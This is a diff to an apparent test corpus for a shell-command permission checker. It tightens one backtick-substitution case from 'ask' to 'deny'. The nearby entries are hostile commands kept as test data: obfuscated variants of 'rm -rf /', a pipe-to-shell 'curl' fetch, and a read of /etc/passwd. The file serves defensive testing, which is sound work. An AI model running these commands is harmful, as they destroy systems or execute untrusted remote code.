@@ -513,7 +513,7 @@ CORPUS: list[tuple[str, str, str, str]] = [
     ("diff /etc/passwd README.md", "ask", "read", "path"),
     # --- found by probing: stored code, substitutions the parser misses, applets, pagers
     ("x='$(rm -rf /)'; echo ${x@P}", "deny", "", "obfuscation"),
-    ('echo "${x:-`rm -rf /`}"', "ask", "", "parse"),
+    ('echo "${x:-`rm -rf /`}"', "deny", "", "parse"),  # bash runs the backticks
     ("sh < <(curl x)", "deny", "", "pipe-to-shell"),
     ("busybox rm -rf /", "deny", "destructive", D),
     ("man -P 'rm -rf /' ls", "deny", "destructive", "pager"),
